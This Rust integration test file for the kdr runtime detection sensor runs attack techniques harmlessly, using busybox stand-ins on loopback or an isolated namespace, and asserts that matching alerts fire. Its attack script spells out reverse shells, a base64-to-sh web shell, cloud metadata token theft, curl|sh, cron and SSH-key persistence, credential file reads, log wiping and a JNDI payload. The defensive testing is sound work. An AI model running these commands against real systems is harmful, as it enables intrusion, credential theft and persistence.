//! Runtime detections end to end: the real sensor (in-process) and the detection engine
//! watch techniques performed for real, but harmlessly, in podman containers and on the host.
//! Every network peer is on loopback or inside a network namespace the test creates. Stand-in
//! tools are copies of busybox under the tool's name (they print "applet not found" and exit):
//! the detections judge the process start, its lineage, files and sockets, not the tool's work.
//!
//! Needs root, BTF, podman, runc and busybox-static; without them each test says SKIPPED.
//! One sensor and one live engine are shared by all tests. Each container test then replays
//! its container's recorded events through `kdr detect` and expects the same alert types.

#[path = "../../kdr-sensor/tests/support/podman.rs"]
mod podman;

use podman::{podman_available, podman_run};
use std::collections::BTreeSet;
use std::io::Write;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::{Arc, Mutex, MutexGuard, OnceLock, PoisonError};
use std::time::{Duration, Instant};

use kdr_engine::{AlertEvent, Engine};
use kdr_intel::IndicatorSet;
use kdr_model::{Alert, Event, Payload, RuntimeAction};
use kdr_sensor::{Sensor, SensorConfig};

struct Shared {
    events: Arc<Mutex<Vec<Event>>>,
    alerts: Arc<Mutex<Vec<Alert>>>,
    _sensor: Arc<Sensor>,
}

const TEST_INTEL: &str = "127.0.0.77 mining-pool\nmalware.test malware-source\n";

fn intel() -> IndicatorSet {
    let mut set = IndicatorSet::shipped();
    set.load("test-intel", TEST_INTEL);
    set
}

fn shared() -> Option<&'static Shared> {
    static S: OnceLock<Result<Shared, String>> = OnceLock::new();
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } != 0 {
        println!("SKIPPED: needs root to load BPF programs");
        return None;
    }
    if !Path::new("/sys/kernel/btf/vmlinux").exists() {
        println!("SKIPPED: kernel has no BTF");
        return None;
    }
    let r = S.get_or_init(|| {
        let sensor = Arc::new(Sensor::start(SensorConfig::default()).map_err(|e| e.to_string())?);
        let events = Arc::new(Mutex::new(Vec::new()));
        let alerts = Arc::new(Mutex::new(Vec::new()));
        let rx = sensor.take_events().unwrap();
        let (ev, al) = (events.clone(), alerts.clone());
        std::thread::spawn(move || {
            let rules = Arc::new(kdr_rules::load(&[]).unwrap());
            let mut engine = Engine::new(rules, intel());
            let mut out = Vec::new();
            while let Ok(e) = rx.recv() {
                let e = e.into_event();
                engine.process(&e, &mut out);
                locked(&ev).push(e);
                let mut al = locked(&al);
                for a in out.drain(..) {
                    if let AlertEvent::Opened(a) = a {
                        al.push(a);
                    }
                }
            }
        });
        Ok(Shared {
            events,
            alerts,
            _sensor: sensor,
        })
    });
    match r {
        Ok(s) => Some(s),
        Err(e) => panic!("sensor failed to start: {e}"),
    }
}

fn unique(tag: &str) -> String {
    static N: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
    format!(
        "kdr-{tag}-{}-{}",
        std::process::id(),
        N.fetch_add(1, std::sync::atomic::Ordering::SeqCst)
    )
}

fn podman_ready() -> bool {
    Path::new("/bin/busybox").exists() && podman_available()
}

/// Busybox applets the scripts use. Debian's busybox ash runs some applets (id, whoami,
/// hostname, killall, chmod, ...) inside the shell without exec when called by bare name, so
/// no process starts and no sensor can see them; the scripts call those by path.
const APPLETS: &[&str] = &[
    "sh", "ash", "true", "echo", "cat", "cp", "chmod", "sleep", "kill", "killall", "touch", "rm",
    "mkdir", "id", "whoami", "uname", "hostname", "ps", "netstat", "wget", "nc", "httpd", "base64",
    "mkfifo", "timeout", "sysctl", "modprobe", "grep", "find", "seq", "unshare", "adduser",
    "nohup", "ls", "sed", "awk", "sort", "tar", "gzip", "dpkg", "env", "head", "wc", "date",
];

/// Stand-ins: busybox copies named like the real tool, in the image (lower layer).
const STAND_INS: &[&str] = &[
    "/usr/bin/docker",
    "/usr/bin/crictl",
    "/usr/bin/ctr",
    "/usr/bin/nerdctl",
    "/opt/xmrig",
    "/usr/bin/nmap",
    "/usr/bin/cdk",
    "/usr/bin/mimipenguin",
    "/usr/sbin/chpasswd",
    "/usr/bin/ssh",
    "/usr/bin/systemctl",
    "/usr/sbin/sshd",
    "/opt/sandcat",
    "/usr/sbin/php-fpm8.2",
    "/opt/svc",
];

fn rootfs() -> PathBuf {
    let root = std::env::temp_dir().join(unique("rootfs"));
    let mk = |p: &str| std::fs::create_dir_all(root.join(p.trim_start_matches('/'))).unwrap();
    for d in [
        "/bin",
        "/usr/bin",
        "/usr/sbin",
        "/opt",
        "/tmp",
        "/etc/kubernetes",
        "/etc/cron.d",
        "/root/.aws",
        "/root/.ssh",
        "/var/log",
        "/var/run/secrets/kubernetes.io/serviceaccount",
        "/www/cgi-bin",
        "/data",
        "/proc",
        "/sys",
        "/dev",
    ] {
        mk(d);
    }
    let put = |p: &str, text: &str| {
        std::fs::write(root.join(p.trim_start_matches('/')), text).unwrap();
    };
    std::fs::copy("/bin/busybox", root.join("bin/busybox")).unwrap();
    for applet in APPLETS {
        let _ = std::os::unix::fs::symlink("busybox", root.join("bin").join(applet));
    }
    for tool in STAND_INS {
        std::fs::copy("/bin/busybox", root.join(tool.trim_start_matches('/'))).unwrap();
    }
    std::fs::copy("/bin/busybox", root.join("www/p")).unwrap();
    put("/etc/passwd", "root:x:0:0:root:/root:/bin/sh\n");
    put("/etc/group", "root:x:0:\n");
    put("/etc/shadow", "root:*:19000:0:99999:7:::\n");
    put(
        "/etc/hosts",
        "127.0.0.1 localhost\n169.254.169.254 metadata.google.internal\n",
    );
    put(
        "/etc/kubernetes/kubelet.conf",
        "apiVersion: v1\nkind: Config\n",
    );
    put(
        "/root/.aws/credentials",
        "[default]\naws_access_key_id = EXAMPLE\n",
    );
    put("/root/.ssh/id_rsa", "not a key\n");
    put(
        "/var/run/secrets/kubernetes.io/serviceaccount/token",
        "eyJ.test.token",
    );
    put("/var/log/wtmp", "x");
    put("/var/log/auth.log", "x");
    put("/www/index.html", "<h1>shop</h1>\n");
    put("/www/i.sh", "echo installed\n");
    put(
        "/www/cgi-bin/q.cgi",
        "#!/bin/sh\necho 'Content-Type: text/plain'\necho\nuname -a\necho aWQK | base64 -d | sh\n",
    );
    let cgi = root.join("www/cgi-bin/q.cgi");
    let mut perm = std::fs::metadata(&cgi).unwrap().permissions();
    std::os::unix::fs::PermissionsExt::set_mode(&mut perm, 0o755);
    std::fs::set_permissions(&cgi, perm).unwrap();
    root
}

struct Run {
    cid: String,
    pod: String,
}

/// Runs `script` in a container of pod `pod` (CRI annotations), on the root filesystem as a
/// read-only lower layer.
fn podman(root: &Path, pod: &str, extra: &[&str], script: &str) -> Run {
    let cidfile = std::env::temp_dir().join(unique("cid"));
    let mut cmd = podman_run();
    cmd.args([
        "--no-hosts",
        "--annotation",
        "io.kubernetes.cri.container-name=app",
    ])
    .arg("--annotation")
    .arg(format!("io.kubernetes.cri.sandbox-name={pod}"))
    .args([
        "--annotation",
        "io.kubernetes.cri.sandbox-namespace=shop",
        "--annotation",
        "io.kubernetes.cri.image-name=registry.test/shop/app:1",
        "--cidfile",
    ])
    .arg(&cidfile)
    .args(extra)
    .arg("--rootfs")
    .arg(format!("{}:O", root.display()))
    .args(["/bin/sh", "-c", script]);
    let out = cmd.output().unwrap();
    let cid = std::fs::read_to_string(&cidfile)
        .unwrap_or_default()
        .trim()
        .to_string();
    let _ = std::fs::remove_file(&cidfile);
    assert!(
        !cid.is_empty(),
        "podman failed: {}\n{}",
        String::from_utf8_lossy(&out.stderr),
        String::from_utf8_lossy(&out.stdout)
    );
    Run {
        cid,
        pod: pod.to_string(),
    }
}

/// One test's failed assertion must not fail the others through a poisoned lock.
fn locked<T>(mutex: &Mutex<T>) -> MutexGuard<'_, T> {
    mutex.lock().unwrap_or_else(PoisonError::into_inner)
}

fn container_alerts(s: &Shared, cid: &str) -> Vec<Alert> {
    locked(&s.alerts)
        .iter()
        .filter(|a| a.entities.container.as_ref().and_then(|c| c.id.as_deref()) == Some(cid))
        .cloned()
        .collect()
}

/// Waits until the live engine raised every expected type for the container; returns them.
fn wait_alerts(s: &Shared, run: &Run, expected: &[&str]) -> Vec<Alert> {
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let alerts = container_alerts(s, &run.cid);
        let types: BTreeSet<&str> = alerts.iter().map(|a| a.alert_type.as_str()).collect();
        let missing: Vec<&&str> = expected.iter().filter(|t| !types.contains(**t)).collect();
        if missing.is_empty() {
            return alerts;
        }
        if Instant::now() > deadline {
            let dump = std::env::temp_dir().join("kdr-e2e-missing.jsonl");
            if let Ok(mut f) = std::fs::File::create(&dump) {
                for e in locked(&s.events).iter() {
                    if e.context.container_id.as_deref() == Some(run.cid.as_str()) {
                        let _ = serde_json::to_writer(&mut f, e);
                        let _ = f.write_all(b"\n");
                    }
                }
            }
            panic!(
                "missing alerts {missing:?}; raised: {types:?}; events in {}",
                dump.display()
            );
        }
        std::thread::sleep(Duration::from_millis(200));
    }
}

/// Each alert names the container, its pod and a process.
fn check_entities(alerts: &[Alert], run: &Run) {
    for a in alerts {
        let e = &a.entities;
        assert_eq!(e.pod.as_deref(), Some(run.pod.as_str()), "{}", a.alert_type);
        assert_eq!(e.namespace.as_deref(), Some("shop"), "{}", a.alert_type);
        assert!(
            e.images.iter().any(|i| i == "registry.test/shop/app:1"),
            "{}",
            a.alert_type
        );
        let p = e.process.as_ref().expect("process entity");
        assert!(
            p.pid > 0 && !p.exe.is_empty() && !p.command_line.is_empty(),
            "{a:?}"
        );
    }
}

/// The container's recorded events, replayed through `kdr detect`, give the same alert types.
fn replay_matches_live(s: &Shared, run: &Run) {
    std::thread::sleep(Duration::from_millis(500));
    let events: Vec<Event> = locked(&s.events)
        .iter()
        .filter(|e| e.context.container_id.as_deref() == Some(run.cid.as_str()))
        .cloned()
        .collect();
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("events.jsonl");
    let mut f = std::fs::File::create(&file).unwrap();
    for e in &events {
        serde_json::to_writer(&mut f, e).unwrap();
        f.write_all(b"\n").unwrap();
    }
    let intel_file = dir.path().join("intel.txt");
    std::fs::write(&intel_file, TEST_INTEL).unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_kdr"))
        .args(["detect", "--output", "json", "--intel"])
        .arg(&intel_file)
        .arg(&file)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let replayed: BTreeSet<String> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| {
            serde_json::from_str::<serde_json::Value>(l).unwrap()["alertType"]
                .as_str()
                .unwrap()
                .to_string()
        })
        .collect();
    let live: BTreeSet<String> = container_alerts(s, &run.cid)
        .into_iter()
        .map(|a| a.alert_type)
        .collect();
    assert_eq!(replayed, live, "replay of {} events", events.len());
}

/// A network namespace holding the instance metadata address on its loopback.
struct Netns(String);

impl Netns {
    fn new() -> Option<Netns> {
        let name = unique("ns");
        let ok = |args: &[&str]| {
            Command::new("ip")
                .args(args)
                .status()
                .is_ok_and(|s| s.success())
        };
        if !ok(&["netns", "add", &name]) {
            return None;
        }
        let ns = Netns(name.clone());
        (ok(&["-n", &name, "link", "set", "lo", "up"])
            && ok(&[
                "-n",
                &name,
                "addr",
                "add",
                "169.254.169.254/32",
                "dev",
                "lo",
            ]))
        .then_some(ns)
    }
}

impl Drop for Netns {
    fn drop(&mut self) {
        let _ = Command::new("ip")
            .args(["netns", "delete", &self.0])
            .status();
    }
}

const ATTACK: &str = r#"
set +e
httpd -p 127.0.0.1:8080 -h /www
httpd -p 169.254.169.254:80 -h /www
sleep 0.5
# Web shell through CGI, and php-fpm running an encoded command.
wget -q -O- 'http://127.0.0.1:8080/cgi-bin/q.cgi' >/dev/null
(exec -a sh /usr/sbin/php-fpm8.2 -c 'sh -c "echo aWQK | base64 -d | sh"') >/dev/null
# Reverse shells: nc -e, and a fifo relay; listeners answer `exit`.
nc -l -p 4444 -e /bin/echo exit & sleep 0.3
timeout 5 nc 127.0.0.1 4444 -e /bin/sh
mkfifo /tmp/f; nc -l -p 4445 -e /bin/echo exit & sleep 0.3
timeout 5 sh -c 'cat /tmp/f | sh -i 2>&1 | nc 127.0.0.1 4445 > /tmp/f'
# Cloud metadata identity requests.
wget -q -O- --header 'Metadata: true' 'http://169.254.169.254/metadata/identity/oauth2/token?resource=x' >/dev/null
wget -q -O- --header 'Metadata-Flavor: Google' 'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token' >/dev/null
# Download then run, persistence, and curl|sh.
wget -q -O /tmp/.p http://169.254.169.254/p; chmod +x /tmp/.p; /tmp/.p 2>/dev/null
echo '* * * * * root /tmp/.p' > /etc/cron.d/p
wget -q -O- http://127.0.0.1:8080/i.sh | sh
# Mining: download, a miner stand-in with pool arguments, CPU tuning.
wget -q -O /tmp/m.tgz http://127.0.0.1:8080/xmrig-6.21.0-linux-static-x64.tar.gz
/opt/xmrig -o pool.supportxmr.com:443 --donate-level 1 -a rx/0 2>/dev/null
/opt/svc -o stratum+tcp://127.0.0.77:3333 -u x 2>/dev/null
nc -w 1 127.0.0.77 3333 </dev/null
sysctl -w vm.nr_hugepages=128 2>/dev/null; modprobe msr 2>/dev/null
echo /tmp/x.so > /etc/ld.so.preload; cat /etc/ld.so.preload >/dev/null; rm /etc/ld.so.preload
# Reconnaissance, scanning, discovery.
/bin/id; /bin/whoami; /bin/uname -a; /bin/hostname; /bin/ps >/dev/null; cat /etc/passwd >/dev/null; netstat -an >/dev/null
nmap -sT 127.0.0.1 2>/dev/null
for p in $(seq 20001 20025); do nc -w 1 127.0.0.1 $p </dev/null 2>/dev/null; done
docker ps 2>/dev/null; crictl ps 2>/dev/null; ctr -n k8s.io containers list 2>/dev/null
wget -q -O- http://127.0.0.1:8080/containers/json 2>/dev/null
# Credentials and secrets.
cat /root/.aws/credentials /root/.ssh/id_rsa /etc/shadow /etc/kubernetes/kubelet.conf >/dev/null
wget -q -T 1 --header "Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)" https://kubernetes.default.svc/api/v1/secrets 2>/dev/null
wget -q -T 1 http://kubernetes-dashboard.kubernetes-dashboard.svc/api/v1/login 2>/dev/null
grep -ri password /etc >/dev/null; find /etc -name '*.pem'
# Evasion and persistence.
echo ls > /root/.ash_history; : > /root/.ash_history
: > /var/log/wtmp; rm /var/log/auth.log
touch -r /bin/busybox /tmp/t; touch -d '2020-01-01 00:00' /etc/cron.d/p
echo 'ssh-ed25519 AAAAC3 test' >> /root/.ssh/authorized_keys
cp /bin/busybox /tmp/kx.x86; /tmp/kx.x86 2>/dev/null
touch /tmp/moni.lod
cp /bin/busybox /tmp/.bot; nohup /tmp/.bot >/dev/null 2>&1
/bin/echo '${jndi:ldap://127.0.0.1:1389/a}' >/dev/null
adduser -D -H kdrx 2>/dev/null; chpasswd -e </dev/null 2>/dev/null
# Stand-ins of tools.
ssh -N -R 9000:127.0.0.1:22 kdr@203.0.113.10 2>/dev/null; ssh -D 1080 kdr@host 2>/dev/null
nc -w 1 127.0.0.1 1080 </dev/null 2>/dev/null
systemctl stop apt-daily-upgrade.timer 2>/dev/null; /bin/killall falco 2>/dev/null
/usr/sbin/sshd -D 2>/dev/null; cdk evaluate 2>/dev/null; mimipenguin 2>/dev/null
/opt/sandcat -server http://127.0.0.1:8888 -group red 2>/dev/null
docker build -t x . 2>/dev/null; docker run --privileged alpine 2>/dev/null
unshare -U true 2>/dev/null
/bin/echo KDR-RUNTIME-TEST-ALERT-3f6c1a9e
sleep 1
"#;

const EXPECTED: &[&str] = &[
    "K8S.NODE_Webshell",
    "K8S.NODE_WebShellActivity",
    "K8S.NODE_ReverseShell",
    "K8S.NODE_ImdsCall",
    "K8S.NODE_DownloadAndRunCombo",
    "K8S.NODE_LinuxBackdoorArtifact",
    "K8S.NODE_DriftBinaryExecution",
    "K8S.NODE_SuspectDownloadArtifacts",
    "K8S.NODE_CryptoCoinMinerDownload",
    "K8S.NODE_CryptoCoinMinerArtifacts",
    "K8S.NODE_CryptoCoinMinerExecution",
    "K8S.NODE_DigitalCurrencyMining",
    "K8S.NODE_CpuOptimization",
    "K8S.NODE_LdSoPreloadAccess",
    "K8S.NODE_ReconnaissanceArtifactsBurst",
    "K8S.NODE_NetworkScanningTool",
    "K8S.NODE_ContainerDiscovery",
    "K8S.NODE_SensitiveFilesAccess",
    "K8S.NODE_SuspectPasswordFileAccess",
    "K8S.NODE_KubeConfigAccess",
    "K8S.NODE_KubernetesAPI",
    "K8S.NODE_KubernetesDashboard",
    "K8S.NODE_SecretReconnaissance",
    "K8S.NODE_HistoryFileCleared",
    "K8S.NODE_SystemLogRemoval",
    "K8S.NODE_TimestampTampering",
    "K8S.NODE_SshKeyAccess",
    "K8S.NODE_CommonBot",
    "K8S.NODE_KnownLinuxDDoSToolkit",
    "K8S.NODE_SuspectNohup",
    "K8S.NODE_ExploitAttempt",
    "K8S.NODE_SuspectUserAddition",
    "K8S.NODE_SuspectPasswordChange",
    "K8S.NODE_SuspectPortForwarding",
    "K8S.NODE_SuspectConnection",
    "K8S.NODE_TimerServiceDisabled",
    "K8S.NODE_SuspectProcessTermination",
    "K8S.NODE_ContainerSSH",
    "K8S.NODE_KnownLinuxAttackTool",
    "K8S.NODE_KnownLinuxCredentialAccessTool",
    "K8S.NODE_MitreCalderaTools",
    "K8S.NODE_ImageBuildOnNode",
    "K8S.NODE_PrivilegedContainerArtifacts",
    "K8S.NODE_NamespaceCreation",
    "K8S.NODE_EICAR",
];

#[test]
fn attack_techniques_in_a_container() {
    let Some(s) = shared() else { return };
    if !podman_ready() {
        println!("SKIPPED: podman, /usr/sbin/runc or busybox-static missing");
        return;
    }
    let Some(ns) = Netns::new() else {
        println!("SKIPPED: cannot create a network namespace");
        return;
    };
    let root = rootfs();
    let network = format!("ns:/run/netns/{}", ns.0);
    let run = podman(
        &root,
        &unique("victim"),
        &[
            "--network",
            &network,
            "--security-opt",
            "seccomp=unconfined",
        ],
        ATTACK,
    );
    let alerts = wait_alerts(s, &run, EXPECTED);
    check_entities(&alerts, &run);
    // Process entities point at the technique's process.
    let find = |t: &str| alerts.iter().find(|a| a.alert_type == t).unwrap();
    let drift = find("K8S.NODE_DriftBinaryExecution");
    assert!(
        drift
            .entities
            .process
            .as_ref()
            .unwrap()
            .exe
            .starts_with("/tmp/"),
        "{drift:?}"
    );
    let rev = find("K8S.NODE_ReverseShell");
    assert!(
        rev.entities
            .process
            .as_ref()
            .unwrap()
            .exe
            .ends_with("busybox"),
        "{rev:?}"
    );
    let ws = find("K8S.NODE_Webshell");
    let parent = ws
        .entities
        .process
        .as_ref()
        .unwrap()
        .parent
        .as_ref()
        .unwrap();
    assert!(
        parent.exe.contains("php-fpm") || parent.command_line.contains("httpd"),
        "{ws:?}"
    );
    replay_matches_live(s, &run);
    let _ = std::fs::remove_dir_all(&root);
}

#[test]
fn privileged_container_commands() {
    let Some(s) = shared() else { return };
    if !podman_ready() {
        println!("SKIPPED: podman, /usr/sbin/runc or busybox-static missing");
        return;
    }
    let root = rootfs();
    let run = podman(
        &root,
        &unique("priv"),
        &["--privileged", "--network", "none"],
        "/bin/true; sleep 0.5",
    );
    let alerts = wait_alerts(s, &run, &["K8S.NODE_PrivilegedExecutionInContainer"]);
    check_entities(&alerts, &run);
    replay_matches_live(s, &run);
    let _ = std::fs::remove_dir_all(&root);
}

const BENIGN: &str = r#"
set -e
httpd -p 127.0.0.1:8080 -h /www
sleep 0.3
mkdir -p /data/cache
for i in 1 2 3; do
  wget -q -O /dev/null http://127.0.0.1:8080/index.html
  echo "line $i $(date)" >> /data/app.log
done
cat /data/app.log | sort | awk '{print $1}' | wc -l > /data/count
sed -i 's/line/entry/' /data/app.log
tar -czf /data/backup.tgz -C /data app.log
tar -xzf /data/backup.tgz -C /data/cache
ls -l /data /data/cache >/dev/null
dpkg -l >/dev/null 2>&1 || true
uname -m >/dev/null; id -u >/dev/null
head -n1 /data/app.log >/dev/null
cat /data/count >/dev/null
sleep 1
"#;

#[test]
fn ordinary_workload_is_quiet() {
    let Some(s) = shared() else { return };
    if !podman_ready() {
        println!("SKIPPED: podman, /usr/sbin/runc or busybox-static missing");
        return;
    }
    let root = rootfs();
    let run = podman(&root, &unique("benign"), &["--network", "none"], BENIGN);
    std::thread::sleep(Duration::from_secs(2));
    let alerts = container_alerts(s, &run.cid);
    assert!(
        alerts.is_empty(),
        "{:#?}",
        alerts
            .iter()
            .map(|a| (&a.alert_type, &a.reason))
            .collect::<Vec<_>>()
    );
    replay_matches_live(s, &run);
    let _ = std::fs::remove_dir_all(&root);
}

fn host_alert(s: &Shared, alert_type: &str, pred: impl Fn(&Alert) -> bool) -> Alert {
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        // Container tests run at the same time and raise the same types: only alerts on host
        // processes count here.
        let found = locked(&s.alerts)
            .iter()
            .find(|a| a.alert_type == alert_type && a.entities.container.is_none() && pred(a))
            .cloned();
        if let Some(a) = found {
            assert!(
                a.entities.node.is_some(),
                "host alert without its node: {a:?}"
            );
            return a;
        }
        assert!(Instant::now() < deadline, "no {alert_type} on the host");
        std::thread::sleep(Duration::from_millis(200));
    }
}

fn cmd_has(a: &Alert, text: &str) -> bool {
    a.entities
        .process
        .as_ref()
        .is_some_and(|p| p.command_line.contains(text))
}

#[test]
fn host_techniques() {
    let Some(s) = shared() else { return };
    // The documented test action.
    let st = Command::new(env!("CARGO_BIN_EXE_kdr"))
        .arg("test-alert")
        .status()
        .unwrap();
    assert!(st.success());
    host_alert(s, "K8S.NODE_EICAR", |a| {
        cmd_has(a, "KDR-RUNTIME-TEST-ALERT")
    });

    // Docker API listing through a unix socket (nothing listens: the request is refused).
    let sock = std::env::temp_dir().join(unique("docker.sock"));
    let _ = Command::new("curl")
        .args(["-s", "--max-time", "1", "--unix-socket"])
        .arg(&sock)
        .arg("http://localhost/containers/json")
        .status();
    host_alert(s, "K8S.NODE_ContainerDiscovery", |a| {
        cmd_has(a, "/containers/json")
    });

    // A shell whose stdio is a TCP socket to a loopback listener.
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let acceptor = std::thread::spawn(move || {
        let (c, _) = l.accept().unwrap();
        drop(c);
    });
    let m = unique("rev");
    let _ = Command::new("bash")
        .arg("-c")
        .arg(format!(
            "exec /bin/sh -c 'true' {m} 0<>/dev/tcp/127.0.0.1/{port} 1>&0 2>&0"
        ))
        .status();
    acceptor.join().unwrap();
    let a = host_alert(s, "K8S.NODE_ReverseShell", |a| cmd_has(a, &m));
    assert!(
        a.entities.process.as_ref().unwrap().exe.ends_with("sh"),
        "{a:?}"
    );

    // One process trying many loopback ports.
    let m = unique("scan");
    let script = "import socket,sys\nfor p in range(20101, 20131):\n    s=socket.socket(); s.settimeout(0.2)\n    try: s.connect(('127.0.0.1', p))\n    except OSError: pass\n    s.close()\n";
    if Command::new("python3")
        .args(["-c", script, &m])
        .status()
        .is_ok_and(|s| s.success())
    {
        host_alert(s, "K8S.NODE_NetworkScanningTool", |a| cmd_has(a, &m));
    }

    // A security agent killed: a sleeping stand-in named falco.
    let dir = std::env::temp_dir().join(unique("agent"));
    std::fs::create_dir_all(&dir).unwrap();
    let falco = dir.join("falco");
    std::fs::copy("/bin/sleep", &falco).unwrap();
    let mut victim = Command::new(&falco).arg("30").spawn().unwrap();
    let vpid = victim.id();
    let deadline = Instant::now() + Duration::from_secs(10);
    while !locked(&s.events).iter().any(|e| match &e.payload {
        Payload::Runtime(r) => r.process.tgid == vpid && r.action == RuntimeAction::Exec,
        _ => false,
    }) {
        assert!(Instant::now() < deadline, "victim exec not seen");
        std::thread::sleep(Duration::from_millis(50));
    }
    let st = Command::new("/bin/sh")
        .arg("-c")
        .arg(format!("kill -TERM {vpid}; :"))
        .status()
        .unwrap();
    assert!(st.success());
    let _ = victim.wait();
    let a = host_alert(s, "K8S.NODE_SuspectProcessTermination", |a| {
        a.reason.contains("falco")
    });
    assert!(a.entities.process.is_some());
    let _ = std::fs::remove_dir_all(&dir);
}
